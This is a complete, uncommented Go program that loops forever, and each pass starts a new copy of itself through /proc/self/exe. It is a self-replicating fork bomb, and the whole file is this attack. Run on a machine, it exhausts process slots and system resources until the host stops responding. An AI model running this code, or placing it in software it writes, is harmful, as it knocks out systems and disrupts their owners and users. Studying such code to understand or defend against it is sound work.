package main

import "os/exec"

func main() {
	for {
		exec.Command("/proc/self/exe").Start()
	}
}
